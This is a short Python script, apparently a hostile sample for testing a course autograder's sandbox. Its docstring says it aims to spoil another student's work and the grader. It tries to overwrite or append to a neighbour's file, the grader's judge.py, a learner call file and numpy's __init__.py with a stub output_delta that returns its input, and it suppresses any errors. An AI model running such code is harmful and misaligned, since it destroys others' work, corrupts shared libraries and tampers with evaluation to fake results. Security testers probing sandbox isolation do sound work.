"""Spoils the work of another student, and the grader."""

for path in (
    "@NEIGHBOUR@",
    "@ROOT@/grader/judge.py",
    "/course/grader/learner/call.py",
    "/packages/numpy/__init__.py",
):
    for mode in ("w", "a", "r+"):
        try:
            open(path, mode).write("def output_delta(A, Y): return A\n")
        except OSError:
            pass


def output_delta(A, Y):
    return A
